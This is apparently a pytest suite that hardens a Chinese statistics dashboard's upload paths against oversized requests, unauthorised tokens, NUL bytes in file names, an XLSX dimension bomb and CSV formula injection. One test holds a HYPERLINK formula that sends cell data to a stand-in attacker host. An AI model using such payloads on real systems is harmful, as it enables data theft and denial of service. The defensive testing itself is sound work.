"""Uploads by crafted requests, as an outsider, a viewer and a reporter would send
them: the request size limit (413 before anything is read or stored), the callback
allowance for a base64 file of the largest size, files refused for size or shape
recorded without their bytes, a viewer's token refused, control characters in file
names, and the anonymous check's per-address limit."""

from __future__ import annotations

import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from flask.testing import FlaskClient
from sqlalchemy import func, select
from sqlalchemy.orm import Session, sessionmaker

from config.settings import load_settings
from dashboard.app import create_app
from dashboard.uploads import callback_body_limit
from db import models
from db.intake import sha256
from db.session import make_engine, make_session_factory, transaction
from db.uploads import ANONYMOUS_CHECK, REFUSED
from db.users import create_token, create_user
from tests.attack_files import HEADER, xfd_bomb
from tests.helpers import ORIGIN, check_body, data_url, sign_in

LIMIT = 30_000  # MAX_UPLOAD_BYTES of these tests
MIB = 1024 * 1024
ROW = "成都市,地区生产总值,2024年,23511.3,亿元,\n"


@pytest.fixture(scope="module")
def world(module_ready_url: str) -> Iterator[dict[str, Any]]:
    engine = make_engine(module_ready_url)
    factory = make_session_factory(engine)
    with transaction(factory) as session:
        create_user(session, "cd", "成都-密码-2026-x", "reporter", regions=["510100"])
        create_user(session, "leader", "领导-密码-2026-x", "viewer")
        tokens = {
            "cd": create_token(session, "cd", "成都数据接口"),
            "leader": create_token(session, "leader", "领导的令牌"),
        }
    settings = load_settings({"MAX_UPLOAD_BYTES": str(LIMIT), "CHECK_RATE_LIMIT": "3"})
    app = create_app(settings, factory)
    yield {"app": app, "factory": factory, "tokens": tokens}
    engine.dispose()


def _client(world: dict[str, Any], address: str) -> FlaskClient:
    client = world["app"].server.test_client()
    client.environ_base["REMOTE_ADDR"] = address
    return client


def _count(factory: sessionmaker[Session], model: type, **where: object) -> int:
    with factory() as session:
        return session.scalar(select(func.count()).select_from(model).filter_by(**where))


def _events(factory: sessionmaker[Session], action: str) -> list[models.AuditEvent]:
    with factory() as session:
        query = select(models.AuditEvent).where(models.AuditEvent.action == action)
        return list(session.scalars(query.order_by(models.AuditEvent.id)))


def post_file(
    client: FlaskClient,
    token: str,
    content: bytes,
    name: str = "data.csv",
    form: dict[str, str] | None = None,
    **extra: Any,
) -> Any:
    return client.post(
        "/api/v1/submissions",
        data={"file": (io.BytesIO(content), name), **(form or {})},
        headers={"Authorization": f"Bearer {token}"},
        content_type="multipart/form-data",
        **extra,
    )


def check(
    client: FlaskClient, filename: str, content: bytes | str, **named: str | None
) -> dict[str, Any]:
    """The report 数据校验 shows for a file (its problems' messages joined in ``text``)."""
    contents = content if isinstance(content, str) else data_url(content)
    response = client.post(
        "/_dash-update-component", json=check_body(filename, contents, **named), headers=ORIGIN
    )
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    report = response.get_json()["response"]["upload-report"]["data"]
    return {**report, "text": " ".join(p["message"] for p in report["problems"])}


def sized(size: int) -> bytes:
    """A template CSV of exactly ``size`` bytes (blank lines fill it up)."""
    body = (HEADER + ROW * (size // len(ROW.encode()))).encode()[:size]
    body = body[: body.rfind(b"\n") + 1]
    return body + b"\n" * (size - len(body))


def test_upl001_a_200_mb_request_is_refused_before_it_is_read_and_recorded_without_bytes(
    world: dict[str, Any],
) -> None:
    """The issue's 200 MB upload with a viewer's token: refused, but stored (the
    database grew 401 MB)."""
    factory = world["factory"]
    client = _client(world, "192.0.2.1")
    before = _count(factory, models.Submission)
    response = post_file(
        client,
        world["tokens"]["leader"],
        b"never read",
        environ_overrides={"CONTENT_LENGTH": str(200 * MIB)},
    )
    assert response.status_code == 413 and response.is_json
    message = response.get_json()["error"]
    assert message.startswith("上传的内容过大：请求大小 200.0 MB，超过上限 30,000 字节")
    assert "内容未读取，也未保存" in message
    assert _count(factory, models.Submission) == before
    event = _events(factory, REFUSED)[-1]
    assert (event.actor, event.object_id, event.after["size"]) == ("leader", None, 200 * MIB)
    assert (event.after["channel"], event.after["address"]) == ("api", "192.0.2.1")
    # a body really over the limit, with the reporter's token: the same
    response = post_file(client, world["tokens"]["cd"], sized(LIMIT + 1000))
    assert response.status_code == 413 and "超过上限" in response.get_json()["error"]
    assert _count(factory, models.Submission) == before


def test_upl002_pages_and_callbacks_answer_413_in_chinese_too(world: dict[str, Any]) -> None:
    client = _client(world, "192.0.2.2")
    page = client.post("/upload", data=b"x" * (LIMIT + 1), headers=ORIGIN)
    assert page.status_code == 413 and page.mimetype == "text/plain"
    assert page.get_data(as_text=True).startswith("上传的内容过大")
    too_big = callback_body_limit(LIMIT) + 1
    callback = client.post(
        "/_dash-update-component",
        data=b"{}",
        headers={**ORIGIN, "Content-Type": "application/json"},
        environ_overrides={"CONTENT_LENGTH": str(too_big)},
    )
    assert callback.status_code == 413 and "上传的内容过大" in callback.get_json()["error"]
    event = _events(world["factory"], REFUSED)[-1]
    assert (event.actor, event.after["size"], event.after["channel"]) == ("匿名", too_big, "page")


def test_upl003_the_check_takes_a_file_of_the_largest_size_in_base64_and_no_larger(
    world: dict[str, Any],
) -> None:
    factory = world["factory"]
    largest = sized(LIMIT)
    assert len(largest) == LIMIT and len(data_url(largest)) > LIMIT  # a third larger
    client = _client(world, "192.0.2.3")
    report = check(client, "largest.csv", largest)
    assert report["rows"] > 0 and "超过上限" not in report["text"], report["text"][:300]
    before = _count(factory, models.AuditEvent, action=REFUSED)
    over = sized(LIMIT + 1)
    report = check(client, "over.csv", over)
    assert "文件大小 30,001 字节，超过上限 30,000 字节" in report["text"]
    assert _count(factory, models.AuditEvent, action=REFUSED) == before + 1
    event = _events(factory, REFUSED)[-1]
    assert (event.object_id, event.after["size"], event.after["filename"]) == (
        sha256(over),
        LIMIT + 1,
        "over.csv",
    )


def test_upl004_a_viewers_token_cannot_store_files(world: dict[str, Any]) -> None:
    factory = world["factory"]
    before = _count(factory, models.Submission)
    response = post_file(
        _client(world, "192.0.2.4"), world["tokens"]["leader"], (HEADER + ROW).encode()
    )
    assert response.status_code == 403
    assert response.get_json()["error"] == (
        "访问令牌所属账号“leader”（浏览者）无报送权限，不能上传文件；文件未读取，也未保存"
    )
    assert _count(factory, models.Submission) == before


def test_upl005_a_nul_in_a_file_name_is_refused_in_chinese(world: dict[str, Any]) -> None:
    """On PostgreSQL a NUL in a text column raised: HTTP 500."""
    factory = world["factory"]
    client = _client(world, "192.0.2.5")
    before = _count(factory, models.Submission)
    response = post_file(client, world["tokens"]["cd"], (HEADER + ROW).encode(), name="a\x00.csv")
    assert response.status_code == 400
    assert "文件名含有控制字符" in response.get_json()["error"]
    response = post_file(
        client, world["tokens"]["cd"], (HEADER + ROW).encode(), form={"region": "成都\x00"}
    )
    assert (
        response.status_code == 400 and "参数 region 含有控制字符" in response.get_json()["error"]
    )
    assert _count(factory, models.Submission) == before
    report = check(client, "b\x00.csv", (HEADER + ROW).encode())
    assert "文件名含有控制字符" in report["text"] and report["file"] == "b.csv"


def test_upl006_anonymous_checks_are_limited_per_address_signed_in_ones_are_not(
    world: dict[str, Any],
) -> None:
    factory = world["factory"]
    content = (HEADER + ROW).encode()
    client = _client(world, "192.0.2.6")
    reports = [check(client, f"{i}.csv", content) for i in range(4)]
    assert [r["ok"] for r in reports] == [True, True, True, False]
    assert reports[3]["text"] == (
        "校验过于频繁：未登录时同一地址每 10 分钟最多校验 3 个文件，请稍后再试，或登录后校验"
    )
    assert check(_client(world, "192.0.2.7"), "x.csv", content)["ok"]  # another client
    counted = _count(factory, models.AuditEvent, action=ANONYMOUS_CHECK)
    reporter = _client(world, "192.0.2.6")
    sign_in(reporter, "cd", "成都-密码-2026-x")
    assert all(check(reporter, f"r{i}.csv", content)["ok"] for i in range(4))
    assert _count(factory, models.AuditEvent, action=ANONYMOUS_CHECK) == counted


def test_upl007_the_xfd1048576_workbook_is_refused_by_the_check_and_by_the_api(
    world: dict[str, Any],
) -> None:
    """The issue's first row: every such file crashed a worker (SIGABRT)."""
    factory = world["factory"]
    bomb = xfd_bomb()
    mime = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    report = check(_client(world, "192.0.2.8"), "攻击.xlsx", data_url(bomb, mime))
    assert report["text"] == (
        "攻击.xlsx（工作表“数据”）：工作表声明了 1,048,576 行 × 16,384 列，超过上限 1,000,000 行"
    )
    before = _count(factory, models.Submission)
    response = post_file(_client(world, "192.0.2.8"), world["tokens"]["cd"], bomb, "攻击.xlsx")
    body = response.get_json()
    assert response.status_code == 422 and body["submission_id"] is None
    assert "超过上限 1,000,000 行" in body["report"]["problems"][0]["message"]
    assert _count(factory, models.Submission) == before
    last_two = _events(factory, REFUSED)[-2:]
    assert [(e.actor, e.after["channel"], e.object_id) for e in last_two] == [
        ("匿名", "check", sha256(bomb)),
        ("cd", "api", sha256(bomb)),
    ]


def test_upl008_contents_that_are_no_base64_are_refused_not_a_crash(
    world: dict[str, Any],
) -> None:
    client = _client(world, "192.0.2.9")
    for contents in ("data:text/csv;base64,@@@@", "no comma at all"):
        report = check(client, "x.csv", contents)
        assert "上传的文件内容无法解码" in report["text"]
    response = client.post(
        "/_dash-update-component",
        json=check_body("x.csv", data_url(b""))
        | {
            "inputs": [
                {"id": "upload-file", "property": "contents", "value": ["not", "a", "string"]},
                {"id": "upload-default-indicator", "property": "value", "value": None},
                {"id": "upload-default-region", "property": "value", "value": None},
            ]
        },
        headers=ORIGIN,
    )
    assert response.status_code in (200, 204)
    assert json.dumps(response.get_json() or {}).find("Traceback") < 0


def test_upl009_the_reporters_upload_page_refuses_and_records_the_same_files(
    world: dict[str, Any],
) -> None:
    """数据填报's check and its 提交审核 go the same way as the anonymous check."""
    factory = world["factory"]
    reporter = _client(world, "192.0.2.10")
    sign_in(reporter, "cd", "成都-密码-2026-x")
    body = {
        "output": "..submit-summary.children...submit-problems.rowData...submit-file.data"
        "...submit-send.disabled..",
        "outputs": [
            {"id": "submit-summary", "property": "children"},
            {"id": "submit-problems", "property": "rowData"},
            {"id": "submit-file", "property": "data"},
            {"id": "submit-send", "property": "disabled"},
        ],
        "inputs": [{"id": "submit-upload", "property": "contents", "value": data_url(xfd_bomb())}],
        "state": [
            {"id": "submit-upload", "property": "filename", "value": "攻击.xlsx"},
            {"id": "url", "property": "search", "value": ""},
        ],
        "changedPropIds": ["submit-upload.contents"],
    }
    response = reporter.post("/_dash-update-component", json=body, headers=ORIGIN)
    answer = response.get_json()["response"]
    assert response.status_code == 200 and answer["submit-send"]["disabled"] is True
    assert "超过上限 1,000,000 行" in answer["submit-problems"]["rowData"][0]["message"]
    event = _events(factory, REFUSED)[-1]
    assert (event.actor, event.after["channel"]) == ("cd", "upload")
    # a crafted 提交审核 with the same bytes: refused, recorded, nothing stored
    before = _count(factory, models.Submission)
    send = {
        "output": "..submit-result.children...submit-history.rowData..",
        "outputs": [
            {"id": "submit-result", "property": "children"},
            {"id": "submit-history", "property": "rowData"},
        ],
        "inputs": [{"id": "submit-send", "property": "n_clicks", "value": 1}],
        "state": [
            {
                "id": "submit-file",
                "property": "data",
                "value": {"filename": "攻击\x00.xlsx", "contents": data_url(xfd_bomb())},
            },
            {"id": "url", "property": "search", "value": ""},
        ],
        "changedPropIds": ["submit-send.n_clicks"],
    }
    text = json.dumps(
        reporter.post("/_dash-update-component", json=send, headers=ORIGIN).get_json(),
        ensure_ascii=False,
    )
    assert "文件名含有控制字符" in text
    send["state"][0]["value"]["filename"] = "攻击.xlsx"
    text = json.dumps(
        reporter.post("/_dash-update-component", json=send, headers=ORIGIN).get_json(),
        ensure_ascii=False,
    )
    assert "未通过校验" in text and "超过上限 1,000,000 行" in text, text[:500]
    assert _count(factory, models.Submission) == before
    assert _events(factory, REFUSED)[-1].after["channel"] == "upload"


def _download(client: FlaskClient, report: Any) -> Any:
    """What 数据校验 sends when 下载校验报告 is clicked with ``report`` in its store."""
    response = client.post(
        "/_dash-update-component",
        json={
            "output": "upload-download.data",
            "outputs": {"id": "upload-download", "property": "data"},
            "inputs": [{"id": "upload-download-button", "property": "n_clicks", "value": 1}],
            "state": [{"id": "upload-report", "property": "data", "value": report}],
            "changedPropIds": ["upload-download-button.n_clicks"],
        },
        headers=ORIGIN,
    )
    assert response.status_code in (200, 204), response.get_data(as_text=True)[:300]
    return (response.get_json() or {}).get("response", {}).get("upload-download", {}).get("data")


def test_upl010_the_check_report_csv_neutralises_formulas_and_survives_a_crafted_store(
    world: dict[str, Any],
) -> None:
    """Issue 17 row 9: a cell value echoed by the check report must not become a
    formula in Excel; the store comes from the browser, so any shape is answered."""
    client = _client(world, "192.0.2.11")
    hostile = '=HYPERLINK("http://evil.example/?"&B2,"点击查看")'
    content = (
        HEADER + f'成都市,地区生产总值,2024年,"{hostile.replace(chr(34), chr(34) * 2)}",亿元,\n'
    )
    report = check(client, "=cmd.csv", content.encode())
    assert hostile in [p["value"] for p in report["problems"]]
    made = _download(client, {k: v for k, v in report.items() if k != "text"})
    assert made["filename"] == "校验报告-=cmd.csv.csv"
    lines = made["content"].lstrip("\ufeff").splitlines()
    assert lines[0] == "级别,工作表,行,列,原值,问题,文件"
    cells = [c for line in lines[1:] for c in line.split(",")]
    assert not any(c.lstrip('"').startswith(("=", "+", "-", "@")) for c in cells)
    assert any(c.startswith("\"'=HYPERLINK(") for c in cells)
    for crafted in (
        None,
        [],
        "x",
        {"problems": "x"},
        {"problems": [1, 2]},
        {"problems": [{"value": {"deep": [1]}}], "file": ["a"]},
    ):
        made = _download(client, crafted)
        assert made is None or made["content"].startswith("\ufeff级别")


def test_upl011_a_file_naming_no_indicator_is_checked_with_the_one_chosen_on_the_page(
    world: dict[str, Any],
) -> None:
    """A real portal export whose 指标 line was cut (issue 15): one error saying how to
    name the indicator; named with the page's picker, it passes."""
    real = Path(__file__).parents[1] / "loaders/fixtures/real/nbs_provinces_gdp_census_20y.csv"
    lines = real.read_bytes().split(b"\r\n")
    cut = b"\r\n".join(line for line in lines if not line.startswith("指标".encode("gbk")))
    client = _client(world, "10.9.9.11")
    refused = check(client, "cut.csv", cut)
    (error,) = [p for p in refused["problems"] if p["level"] == "错误"]
    assert error["message"].startswith("缺少指标：") and "“指标”选项" in error["message"]
    named = check(client, "cut.csv", cut, indicator="gdp", region=None)
    assert named["ok"] is True and named["rows"] == 38


def test_upl012_the_check_page_offers_the_indicator_and_region_pickers(
    world: dict[str, Any],
) -> None:
    from tests.helpers import layout

    html = layout(world["app"], "/upload")
    assert "upload-default-indicator" in html and "upload-default-region" in html
    assert "文件未注明指标或地区时" in html and "地区生产总值" in html
